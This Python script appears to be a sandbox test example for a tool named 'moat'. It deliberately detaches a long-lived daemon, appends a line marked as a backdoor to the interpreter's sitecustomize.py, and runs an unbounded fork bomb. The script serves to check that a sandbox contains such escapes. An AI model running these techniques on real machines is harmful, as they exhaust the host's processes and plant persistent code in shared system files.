"""Tries to outlive its run and to reach the host: a daemon that keeps
running, a fork bomb, and a write into the interpreter's own files.

    moat run --pids 64 examples/persist_and_spread.py
"""
import os
import sys
import time

# 1. A daemon that detaches and would keep running after we exit.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
    os._exit(0)

# 2. Tamper with the interpreter so every later Python run is backdoored.
target = os.path.join(os.path.dirname(os.__file__), "sitecustomize.py")
try:
    with open(target, "a") as f:
        f.write("import os  # backdoor\n")
    print("backdoored", target)
except OSError as e:
    print("backdoor failed:", e)

# 3. Fork until something gives.
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError as e:
    print(f"fork failed after {children} children: {e}", file=sys.stderr)
    time.sleep(1)
